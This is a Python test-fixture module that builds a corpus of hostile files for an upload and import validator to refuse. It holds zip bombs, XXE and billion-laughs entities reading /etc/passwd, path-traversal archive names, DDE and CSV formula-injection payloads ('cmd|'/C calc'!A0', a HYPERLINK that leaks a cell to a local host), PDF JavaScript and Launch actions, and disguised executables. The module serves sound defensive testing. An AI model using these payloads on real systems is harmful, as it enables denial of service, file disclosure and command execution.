"""Hostile files by kind and variant: bombs, scripts, entities, links, lies, and what is not what its name says."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import lru_cache

from openpyxl import Workbook

# Which doors a file must be refused at: the upload, the import, a source of figures.
UPLOAD, TABLES, ALL = ("upload",), ("import", "source"), ("upload", "import", "source")
File = tuple[str, bytes, tuple[str, ...]]

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MEGABYTE = 1_000_000


@lru_cache(maxsize=1)
def a_workbook() -> dict[str, bytes]:
    """Return the parts of a workbook that every door takes."""
    book, out = Workbook(), io.BytesIO()
    sheet = book.active
    assert sheet is not None
    for row in (["E-post", "Namn", "Belopp"], ["a@example.org", "A", 1]):
        sheet.append(row)
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def said_of_endings(ending: bytes) -> dict[str, bytes]:
    """Return the parts of a workbook that says of every part with the ending that it holds macros."""
    parts = a_workbook()
    said = (
        b'<Default Extension="%s" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
        % ending
    )
    types = parts["[Content_Types].xml"]
    return parts | {"[Content_Types].xml": types.replace(b"<Override", said + b"<Override", 1)}


def a_document() -> dict[str, bytes]:
    """Return the parts of a text document that is taken."""
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    word = b'<w:document xmlns:w="w"><w:body><w:p/></w:body></w:document>'
    return {"[Content_Types].xml": types, "word/document.xml": word}


def packed(parts: dict[str, bytes], **more: bytes) -> bytes:
    """Return the parts as an archive; `more` by names in which `__` is a slash and `_dot_` a dot."""
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in more.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (parts | named).items():
            archive.writestr(name, content)
    return out.getvalue()


def repeated(block: bytes, times: int) -> bytes:
    """Return packed data that unpacks to the block so many times; packing it takes as long as packing it once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return once * times + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def raw_zip(*entries: tuple[str, bytes, int], says: int | None = None, flags: int = 0) -> bytes:
    """Return an archive of entries as (name, packed data, unpacked size); `says` is what its directory says instead."""
    body, directory = b"", b""
    for name, data, size in entries:
        encoded = name.encode()
        told = size if says is None else says
        head = struct.pack("<HHHHHIIIHH", 20, flags, 8, 0, 0x21, 0, len(data), told, len(encoded), 0)
        directory += b"PK\x01\x02\x14\0" + head + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + encoded
        body += b"PK\x03\x04" + head + encoded + data
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def with_part(parts: dict[str, bytes], name: str, block: bytes, times: int, **lies: int) -> bytes:
    """Return the archive with one part that is a block many times over."""
    kept = [(one, repeated(content, 1), len(content)) for one, content in parts.items() if one != name]
    return raw_zip(*kept, (name, repeated(block, times), len(block) * times), **lies)


def office() -> Iterator[tuple[str, dict[str, bytes], str, tuple[str, ...]]]:
    """Yield each office kind: its ending, parts, a part of its own, and the doors that take it."""
    yield "xlsx", a_workbook(), "xl/worksheets/sheet1.xml", ALL
    yield "docx", a_document(), "word/document.xml", UPLOAD


def bombs() -> Iterator[File]:
    for ending, parts, own, doors in office():
        folder = own.partition("/")[0]
        for name in (f"{folder}/media/a.bin", f"{folder}/theme/a.xml", own, "docProps/custom.xml"):
            for size in (100, 300, 4_000):
                bomb = with_part(parts, name, bytes(MEGABYTE), size)
                yield f"bomb-{name.replace('/', '-')}-{size}.{ending}", bomb, doors
            lying = with_part(parts, name, bytes(MEGABYTE), 500, says=1_000)
            yield f"lying-{name.replace('/', '-')}.{ending}", lying, doors
        inner = packed(parts)
        for depth in range(5):
            inner = packed(parts, **{f"{folder}__embeddings__inner_dot_{ending}": inner})
            if depth > 1:
                yield f"nested-{depth}.{ending}", inner, doors
        deep = packed(parts, **{f"{folder}__inner_dot_zip": with_part(parts, "a", bytes(MEGABYTE), 400)})
        yield f"nested-bomb.{ending}", deep, doors
        many = parts | {f"{folder}/{number}.bin": b"" for number in range(5_000)}
        yield f"many-parts.{ending}", packed(many), doors


def scripts() -> Iterator[File]:
    for ending, parts, own, doors in office():
        folder = own.partition("/")[0]
        for name in ("vbaProject.bin", "macrosheets/sheet1.xml", "activeX/activeX1.bin", "vbaData.xml",
                     "embeddings/oleObject1.bin", "VBAPROJECT.BIN"):  # fmt: skip
            yield (
                f"macro-{name.replace('/', '-')}.{ending}",
                packed(parts | {f"{folder}/{name}": b"x"}),
                doors,
            )
        for kind in (b"sheet.macroEnabled.main+xml", b"vbaProject"):
            types = parts["[Content_Types].xml"].replace(b"<Types", b"<Types macro='" + kind + b"'", 1)
            yield (
                f"macro-type-{kind[:5].decode()}.{ending}",
                packed(parts | {"[Content_Types].xml": types}),
                doors,
            )
        if ending == "xlsx":
            yield "macro-of-ending.xlsx", packed(said_of_endings(b"BIN"), xl__a_dot_bin=b"a"), doors
        types = parts["[Content_Types].xml"].replace(b"<Types", b"<Types m='macro&#69;nabled'", 1)
        yield f"macro-type-by-number.{ending}", packed(parts | {"[Content_Types].xml": types}), doors
        for number, program in enumerate((b"MZ\x90", b"\x7fELF", b"#!/bin/sh\n")):
            yield f"program-{number}.{ending}", packed(parts | {f"{folder}/media/a.png": program}), doors


LAUGHS = b"<!DOCTYPE a [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY %c '%s'>" % (98 + n, (b"&%c;" % (97 + n)) * 10) for n in range(9)
) + b"]>"  # fmt: skip
DECLARATIONS = {
    "file": b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "http": b"<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/a.dtd'>",
    "parameter": b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://127.0.0.1:9/'> %p;]>",
    "laughs": LAUGHS,
    "quadratic": b"<!DOCTYPE a [<!ENTITY a '" + b"a" * 50_000 + b"'>]>",
}


def entities() -> Iterator[File]:
    for ending, parts, own, doors in office():
        targets = {
            own,
            "[Content_Types].xml",
            *(one for one in parts if one.endswith(("styles.xml", ".rels"))),
        }
        for target in sorted(targets):
            for word, declaration in DECLARATIONS.items():
                for encoding in ("utf-8", "utf-16"):
                    text = (declaration + b"<a>&x;</a>").decode().encode(encoding)
                    name = f"entity-{word}-{encoding}-{target.replace('/', '-')}.{ending}"
                    yield name, packed(parts | {target: text}), doors


def other_endings() -> Iterator[File]:
    """A sheet, or a part of a document, whose XML has another ending: programs find it by what refers to it."""
    book, own = a_workbook(), "xl/worksheets/sheet1.xml"
    for ending in ("dat", "svg", "bin"):
        moved = {
            name: part.replace(b"sheet1.xml", b"sheet1." + ending.encode()) for name, part in book.items()
        }
        other = own.replace("xml", ending)
        sheet = moved.pop(own)
        for start in (b"", b"\n " * 40_000):
            for word, declaration in DECLARATIONS.items():
                if b"<!ENTITY" in declaration:
                    named = f"entity-{word}-in-{ending}-{len(start)}.xlsx"
                    yield named, packed(moved | {other: start + declaration + sheet}), ALL
        many = sheet.replace(b"<sheetData>", b"<sheetData>" + b"<row/>" * 1_600_000)
        yield f"million-rows-in-{ending}.xlsx", packed(moved | {other: many}), TABLES
        yield f"million-rows-elsewhere-in-{ending}.xlsx", packed(elsewhere(moved | {other: many})), TABLES
        text = LAUGHS.decode().encode("utf-16") + "<a>&d;</a>".encode("utf-16-le")
        yield f"entity-in-{ending}.docx", packed(a_document() | {f"word/a.{ending}": text}), UPLOAD


def elsewhere(parts: dict[str, bytes]) -> dict[str, bytes]:
    """Return a workbook whose sheets lie in another folder than they do by custom."""
    return {
        name.replace("/worksheets/", "/other/"): part.replace(b"worksheets/sheet", b"other/sheet")
        for name, part in parts.items()
    }


def links() -> Iterator[File]:
    for ending, parts, own, doors in office():
        folder = own.partition("/")[0]
        for kind in ("attachedTemplate", "oleObject", "externalLinkPath", "image", "frame", "subDocument"):
            told = f'Type="{OFFICE}/{kind}" Target="http://127.0.0.1:9/a" TargetMode="External"'
            rels = f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" {told}/></Relationships>'.encode()
            yield f"link-{kind}.{ending}", packed(parts | {f"{folder}/_rels/a.xml.rels": rels}), doors
        plain = f'Type="{OFFICE}/attachedTemplate" Target="http://127.0.0.1:9/a" TargetMode='
        for word, told in (
            ("by-number", plain + '"&#69;xtern&#x61;l"'),
            ("spaced", plain.replace("Mode=", "Mode\n = ") + '"External"'),
            ("far", f'Id="{"a" * 80_000}" {plain}"External"'),
        ):
            rels = f'<Relationships xmlns="{RELS}"><Relationship {told}/></Relationships>'.encode()
            yield f"link-{word}.{ending}", packed(parts | {f"{folder}/_rels/a.xml.rels": rels}), doors
        for number, name in enumerate(
            (
                "../../evil.xml",
                "/etc/evil",
                "..\\evil",
                "C:\\evil",
                f"{folder}/../../x",
                "a/\x01",
                "\\\\host\\a",
            )
        ):
            content = raw_zip(*((one, repeated(b, 1), len(b)) for one, b in (parts | {name: b"x"}).items()))
            yield f"way-out-{number}.{ending}", content, doors
    sheet = "xl/worksheets/sheet1.xml"
    for number, formula in enumerate(
        (
            "cmd|'/C calc'!A0",
            "MSEXCEL|'\\..\\cmd.exe /c calc'!A1",
            'WEBSERVICE("http://127.0.0.1:9/")',
            "Excel|Sheet1!R1C1",
        )
    ):
        row = f'<row r="1"><c r="A1"><f>{formula}</f></c></row>'
        cell = f'<worksheet xmlns="{MAIN}"><sheetData>{row}</sheetData></worksheet>'
        yield f"dde-{number}.xlsx", packed(a_workbook() | {sheet: cell.encode()}), ALL
    for kind in ("ddeLink", "oleLink"):
        part = f'<externalLink xmlns="{MAIN}"><{kind} ddeService="cmd"/></externalLink>'.encode()
        yield f"{kind}.xlsx", packed(a_workbook(), xl__externalLinks__externalLink1_dot_xml=part), ALL
    for number, field in enumerate(
        ('<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>',
         "<w:instrText>dde excel a</w:instrText>", '<w:fldSimple w:instr="DDEAUTO cmd"/>')
    ):  # fmt: skip
        text = f'<w:document xmlns:w="w">{field}</w:document>'.encode()
        yield f"dde-{number}.docx", packed(a_document() | {"word/document.xml": text}), UPLOAD


def slow_searches() -> Iterator[File]:
    """What a search goes over again and again: tags without an end, packed texts and marks without number."""
    for ending, parts, own, doors in office():
        folder = own.partition("/")[0]
        for number, tag in enumerate((b"<Relationship ", b"<f ", b"<instrText ", b"w:instr='")):
            for name in (f"{folder}/a.xml", f"{folder}/_rels/a.xml.rels"):
                endless = packed(parts | {name: tag * (5 * MEGABYTE // len(tag) - 20_000)})
                yield f"endless-{number}-{name[-4:]}.{ending}", endless, doors
    text = b"a\0\0" + zlib.compress(bytes(9_900_000), 9)
    yield "texts.png", a_png(1, 1, *[(b"zTXt", text)] * 500), UPLOAD
    yield "fill.jpg", b"\xff\xd8" + b"\xff" * 19 * MEGABYTE + b"\xff\xd9", UPLOAD
    yield "names.pdf", a_pdf(b"/A#41" * 3_900_000), UPLOAD


def large_tables() -> Iterator[File]:
    book, sheet = a_workbook(), "xl/worksheets/sheet1.xml"
    head, tail = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode(), b"</sheetData></worksheet>"

    def told(name: str, content: bytes) -> File:
        return f"{name}.xlsx", packed(book | {sheet: head + content + tail}), TABLES

    yield told("row-a-billion", b'<row r="999999999"><c r="A999999999"><v>1</v></c></row>')
    yield told("last-row", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    yield told("two-million-cells", b"<row>" + b"<c/>" * 2_000_000 + b"</row>")
    yield told("million-rows", b"<row/>" * 1_600_000)
    yield told("sixty-thousand-rows", b'<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 60_000)
    yield told("endless-attribute", b'<row r="' + b"1" * 5_000_000 + b'"/>')
    yield told("endless-comment", b"<!--" + b"a" * 5_000_000 + b"-->")
    yield told("no-such-column", b'<row><c r="ZZZZZZZ1"><v>1</v></c></row>')
    yield told("no-such-text", b'<row><c t="s"><v>999999</v></c></row>')
    yield told("not-a-number", b'<row r="x"><c r="A1" t="n"><v>x</v></c></row>')
    for depth in (1_000, 300_000):
        yield told(f"deep-{depth}", b"<a>" * depth + b"</a>" * depth)
    merged = head + tail.replace(
        b"</sheetData>", b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:B2"/>' * 9_000 + b"</mergeCells>"
    )
    yield "merged.xlsx", packed(book | {sheet: merged}), ("import",)
    styles = f'<styleSheet xmlns="{MAIN}">'.encode()
    for name, one in (
        ("cellXfs", b'<xf numFmtId="0"/>'),
        ("fonts", b"<font/>"),
        ("numFmts", b'<numFmt numFmtId="9" formatCode="a"/>'),
    ):
        part = styles + f"<{name}>".encode() + one * 1_000_000 + f"</{name}></styleSheet>".encode()
        yield f"styles-{name}.xlsx", packed(book | {"xl/styles.xml": part}), ALL
    names = b"<workbook>" + b"<definedName/>" * 500_000 + b"</workbook>"
    yield "names.xlsx", packed(book | {"xl/workbook.xml": names}), ALL
    properties = b"<Properties>" + b"<property/>" * 500_000 + b"</Properties>"
    yield "properties.xlsx", packed(book | {"docProps/custom.xml": properties}), ALL
    texts = f'<sst xmlns="{MAIN}">'.encode() + b"<si><t/></si>" * 600_000 + b"</sst>"
    yield "texts.xlsx", packed(book | {"xl/sharedStrings.xml": texts}), ALL
    long_text = f'<sst xmlns="{MAIN}"><si><t>'.encode() + b"a" * 30_000_000 + b"</t></si></sst>"
    yield "one-text.xlsx", packed(book | {"xl/sharedStrings.xml": long_text}), ALL
    deep = b'<w:document xmlns:w="w">' + b"<w:r>" * 100_000 + b"</w:r>" * 100_000 + b"</w:document>"
    yield "deep.docx", packed(a_document() | {"word/document.xml": deep}), UPLOAD


def odd_workbooks() -> Iterator[File]:
    """Yield workbooks that are whole, and odd in a way of their own."""
    book, part = a_workbook(), "xl/worksheets/sheet1.xml"
    heads = ("A", "E-post"), ("B", "Belopp")
    row = "".join(f'<c r="{at}1" t="inlineStr"><is><t>{text}</t></is></c>' for at, text in heads)
    row = f'<row r="1">{row}</row>'

    def cell(inside: str) -> bytes:
        rows = f'<sheetData>{row}<row r="2"><c r="B2"{inside}</c></row></sheetData>'
        return packed(book | {part: f'<worksheet xmlns="{MAIN}">{rows}</worksheet>'.encode()})

    for name, inside in {
        "nan": "><v>NaN</v>",
        "infinite": "><v>1e999</v>",
        "digits": f"><v>{'9' * 100_000}</v>",
        "day-before-all": ' t="d"><v>-9999-99-99</v>',
        "day-after-all": ' t="d"><v>99999-12-31T00:00:00</v>',
        "seven-times-true": ' t="b"><v>7</v>',
        "text-before-first": ' t="s"><v>-1</v>',
        "error": ' t="e"><v>#REF!</v>',
        "unreckoned": "><f>1+1</f>",
        "sections": f' t="inlineStr"><is><t><![CDATA[{"=1+1" * 500_000}]]></t></is>',
    }.items():
        yield f"cell-{name}.xlsx", cell(inside), TABLES
    shapes = {
        "numbered-below-one": '<row r="-5"><c r="A-5"><v>1</v></c></row>',
        "numbered-in-the-air": '<row r="²"><c r="A²"><v>1</v></c></row>',
        "beyond-the-last-column": '<row r="1"><c r="XFE1"><v>1</v></c></row>',
        "one-row-often": '<row r="1"><c r="A1"><v>1</v></c></row>' * 40_000,
        "upwards": '<row r="9"><c r="A9"><v>1</v></c></row><row r="1"><c r="A1"><v>2</v></c></row>',
    }
    for name, rows in shapes.items():
        sheet = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode()
        yield f"rows-{name}.xlsx", packed(book | {part: sheet}), TABLES
    for name, sheet in {
        "attributes": b"<worksheet " + b" ".join(b'a%d="x"' % n for n in range(200_000)) + b"/>",
        "namespaces": b"<worksheet " + b" ".join(b'xmlns:n%d="u"' % n for n in range(100_000)) + b"/>",
        "instruction": b"<?a " + b"x" * 4_000_000 + b"?><worksheet/>",
        "utf-7": b'<?xml version="1.0" encoding="utf-7"?><worksheet/>',
        "ebcdic": '<?xml version="1.0" encoding="cp037"?><worksheet/>'.encode("cp037"),
        "no-utf-8": b"<worksheet>\xff\xfe</worksheet>",
    }.items():
        yield f"xml-{name}.xlsx", packed(book | {part: sheet}), ALL
    wide = (
        "<row><c><v>1</v></c></row>" * 20_000
        + "</sheetData><mergeCells>"
        + '<mergeCell ref="A1:GR20000"/>' * 4_000
    )
    merged = f'<worksheet xmlns="{MAIN}"><sheetData>{row}{wide}</mergeCells></worksheet>'
    yield "merged-wide.xlsx", packed(book | {part: merged.encode()}), TABLES
    shown_as = f'<numFmts><numFmt numFmtId="200" formatCode="{"[" * 200_000}%"/></numFmts>'
    used = '<cellXfs><xf numFmtId="200"/></cellXfs>'
    styles = f'<styleSheet xmlns="{MAIN}">{shown_as}{used}</styleSheet>'.encode()
    yield "format-of-brackets.xlsx", packed(book | {"xl/styles.xml": styles}), TABLES
    inside = "".join(f'<sheet name="s{n}" sheetId="{n + 1}" r:id="rId1"/>' for n in range(5_000))
    for name, sheets in {"none": "", "thousands": inside}.items():
        told = f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{sheets}</sheets></workbook>'.encode()
        yield f"sheets-{name}.xlsx", packed(book | {"xl/workbook.xml": told}), TABLES
    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels", part):
        yield (
            f"without-{name.replace('/', '-')}.xlsx",
            packed({k: v for k, v in book.items() if k != name}),
            TABLES,
        )
    for number, target in enumerate(("workbook.xml", "../../../etc/passwd", "/xl/../../x", "styles.xml")):
        rels = f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="{target}"/>'
        rels = f'<Relationships xmlns="{RELS}">{rels}</Relationships>'
        yield f"leads-{number}.xlsx", packed(book | {"xl/_rels/workbook.xml.rels": rels.encode()}), TABLES
    yield "program-before.xlsx", b"MZ" + bytes(1_000) + packed(book), ALL
    yield "ends-often.xlsx", packed(book)[:-2] + b"\xff\xff" + b"PK\5\6" * 16_383, ALL
    head = b"E-post;Belopp\n"
    yield "quotes.csv", head + b'"' * 1_000_001, TABLES
    yield "quoted-columns.csv", head + b'"a""b";' * 20_000, TABLES
    yield "returns.csv", b"E-post;Belopp\r" * 60_000, TABLES
    yield "lines-in-a-cell.csv", head + b'"' + b"\n" * 3_000_000 + b'";1\n', TABLES
    yield "digits.csv", head + b"a@example.org;" + b"9" * 190_000 + b"\n", TABLES
    yield "holes-of-windows.csv", head + b"a@example.org;\x81\x8d\x8f\n", TABLES
    yield "workbook.csv", packed(book), ALL
    yield "table.xlsx", head, ALL


def a_png(width: int = 1, height: int = 1, *more: tuple[bytes, bytes]) -> bytes:
    """Return a PNG that says that it is so large, with chunks of its own."""
    lines = zlib.compress(b"\0\0\0\0")
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), *more, (b"IDAT", lines), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def a_jpg(width: int = 1, height: int = 1) -> bytes:
    """Return a JPEG's frame that says that it is so large."""
    size = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\0"
    return (
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
        + size
        + b"\xff\xda\0\x08\x01\x01\0\0?\0\0\xff\xd9"
    )


def a_pdf(*objects: bytes) -> bytes:
    """Return a PDF with objects of its own."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


def a_stream(content: bytes) -> bytes:
    return b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + content + b"\nendstream"


def pictures() -> Iterator[File]:
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    bomb = b"x\x9c" + repeated(bytes(MEGABYTE), 400)
    archive = packed(a_document())
    pdfs = {
        "script": a_pdf(script),
        "script-escaped": a_pdf(b"<< /S /J#61va#53cript >>"),
        "script-js": a_pdf(b"<< /JS<61> >>"),
        "script-packed": a_pdf(a_stream(zlib.compress(script))),
        "launch": a_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        "media": a_pdf(b"<< /Subtype /RichMedia >>"),
        "locked": a_pdf(b"<< >>").replace(b"/Root", b"/Encrypt 2 0 R /Root"),
        "locked-escaped": a_pdf(b"<< >>").replace(b"/Root", b"/Encr#79pt 2 0 R /Root"),
        "bomb": a_pdf(a_stream(bomb)),
        "archive": a_pdf() + archive,
        "archive-before": a_pdf()[:-6] + archive + b"%%EOF\n",
        "streams": a_pdf(b"stream\nx" * 30_000),
        **{f"cut-{cut}": a_pdf(script)[:-cut] for cut in (10, 40, 80)},
    }
    pngs = {
        "large": a_png(60_000, 60_000),
        "wide": a_png(2_000_000_000, 1),
        "nothing": a_png(0, 0),
        "profile": a_png(1, 1, (b"iCCP", b"a\0\0" + zlib.compress(bytes(50_000_000)))),
        "packed-text": a_png(1, 1, (b"zTXt", b"a\0\0" + zlib.compress(bytes(50_000_000)))),
        "archive": a_png() + archive,
        "page": a_png() + b"<script>alert(1)</script>",
        "long-chunk": a_png().replace(b"\0\0\0\x0dIHDR", b"\x7f\xff\xff\xffIHDR"),
        "no-head": a_png()[:8] + a_png()[33:],
        **{f"cut-{cut}": a_png()[:-cut] for cut in (1, 12, 30)},
    }
    jpgs = {
        "large": a_jpg(65_000, 65_000),
        "cut": a_jpg()[:-2],
        "no-frame": a_jpg()[:20] + b"\xff\xd9",
        "archive": a_jpg() + archive,
    }
    for ending, files in (("pdf", pdfs), ("png", pngs), ("jpg", jpgs)):
        for name, content in files.items():
            yield f"{name}.{ending}", content, UPLOAD


def tables() -> Iterator[File]:
    payloads = (
        "=1+1", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
        '=HYPERLINK("http://127.0.0.1:9/?"&A1)', "=IMPORTXML(A1)", " =1+1", "=DDE(1)", "+SUM(A1)",
    )  # fmt: skip
    for number, payload in enumerate(payloads):
        quoted = '"' + payload.replace('"', '""') + '"'
        for word, text in (
            ("first", payload + ";a\n"),
            ("later", f"a;b\n1;{payload}\n"),
            ("quoted", f"a;{quoted}\n"),
        ):
            yield f"formula-{number}-{word}.csv", text.encode(), UPLOAD
    yield "formula-behind-mark.csv", b"\xef\xbb\xbf=1+1;a\n", UPLOAD
    head = b"E-post;Namn;Belopp\n"
    yield "nul.csv", head + b"a@example.org;A\0;1\n", ALL
    yield "control.csv", head + b"a@example.org;\x1b[2J;1\n", ALL
    for encoding in ("utf-16-le", "utf-16-be", "utf-32"):
        yield f"{encoding}.csv", head.decode().encode(encoding) * 9, ALL
    yield "half-a-character.csv", b"\xff\xfea\0\x00\xd8;\0", ALL
    yield "endless.csv", b"a" * 5_000_000, ALL
    yield "endless-later.csv", head + b"a;" * 2_500_000, ALL
    yield "endless-cell.csv", head + b'"' + b"a\n" * 400_000, TABLES
    yield "columns.csv", b";".join(b"a" for _ in range(5_000)) + b"\n", TABLES
    yield "rows.csv", head + b"a;b;1\n" * 60_000, TABLES
    yield "open-quote.csv", head + b'"a;b;1\n', TABLES
    yield "nothing.csv", b"", ALL


def wrong_names() -> Iterator[File]:
    contents = {
        "program": b"MZ\x90\0" + bytes(60),
        "elf": b"\x7fELF" + bytes(60),
        "page": b"<!DOCTYPE html><script>alert(1)</script>",
        "script": b"#!/bin/sh\nrm -rf x\n",
        "old-office": OLE + bytes(600),
        "encrypted": OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "rtf": b"{\\rtf1 a}",
        "gif": b"GIF89a" + bytes(60),
        "postscript": b"%!PS-Adobe",
        "pdf": a_pdf(),
        "png": a_png(),
        "document": packed(a_document()),
    }
    doors = {"xlsx": ALL, "csv": ALL, "docx": UPLOAD, "pdf": UPLOAD, "png": UPLOAD, "jpg": UPLOAD}
    for word, content in contents.items():
        for ending, at in doors.items():
            if (word, ending) not in (("pdf", "pdf"), ("png", "png"), ("document", "docx")):
                yield f"wrong-{word}.{ending}", content, at
    for name in ("a.exe", "a.docm", "a.xlsm", "a.html", "a.svg", "a.zip", "a.js", "a.lnk", "a.xls", "a"):
        yield f"kind-{name}", packed(a_document()), UPLOAD


def cut_and_locked() -> Iterator[File]:
    for ending, parts, _, doors in office():
        whole = packed(parts)
        for part in range(12):
            yield f"cut-{part}.{ending}", whole[: len(whole) * part // 12], doors
        kept = [(name, repeated(content, 1), len(content)) for name, content in parts.items()]
        yield f"locked.{ending}", raw_zip(*kept, flags=1), doors
        yield f"twice.{ending}", raw_zip(*kept, kept[-1]), doors
        yield f"wrong-sum.{ending}", raw_zip(*kept), doors
        yield f"bare.{ending}", packed({"a.txt": b"a"}), doors


def hostile_files() -> Iterator[File]:
    """Yield every file: its name, its content, and the doors at which it must be refused."""
    for kind in (
        bombs,
        scripts,
        entities,
        other_endings,
        links,
        slow_searches,
        large_tables,
        odd_workbooks,
        pictures,
        tables,
        wrong_names,
        cut_and_locked,
    ):
        yield from kind()
